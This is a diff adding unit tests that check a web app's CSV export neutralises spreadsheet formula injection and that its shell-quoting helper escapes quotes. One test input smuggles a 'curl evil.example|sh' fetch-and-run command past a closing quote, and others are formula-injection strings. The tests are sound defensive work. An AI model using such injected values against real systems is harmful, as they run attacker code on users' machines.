@@ -3,6 +3,8 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { auditSentence, auditTypes, otherUser, type AuditEvent } from '../web/accounts/audit-sentence.ts';
 import { collectPages } from '../web/app/collect-pages.ts';
+import { csvOf } from '../web/ui/csv.ts';
+import { shellQuoted } from '../web/ui/shell-quoted.ts';
 import { root } from './support/process.ts';
 
 const event = (type: string, rest: Partial<AuditEvent> = {}): AuditEvent => ({
@@ -72,5 +74,22 @@ describe('The pages of a list', () => {
     const all = await collectPages(list(length), bound, (count) => counts.push(count));
     expect(all).toEqual({ rows: Array.from({ length: collected }, (_, index) => index), hasMore });
     expect(counts.every((count, index) => count === (index + 1) * 10)).toBe(true);
+  });
+});
+
+describe('What is copied or saved runs nowhere:', () => {
+  test.each([
+    ['=SUM(A1)', "'=SUM(A1)"],
+    ['x;=SUM(A1)', `"x;'=SUM(A1)"`],
+    ['x\n@SUM(A1)', `"x\n'@SUM(A1)"`],
+    ['＋SUM(A1)', "'＋SUM(A1)"],
+    ['\tx', `"'\tx"`],
+    ['a-b, c=d', '"a-b, c=d"'],
+  ])('no cell is a formula, not behind a separator either: %j', (text, cell) => {
+    expect(csvOf([[text, 'next']])).toBe(`${cell},next\r\n`);
+  });
+
+  test('no text ends the quotes of a command', () => {
+    expect(shellQuoted("scopes:a';curl evil.example|sh;'")).toBe(`'scopes:a'\\'';curl evil.example|sh;'\\'''`);
   });
 });
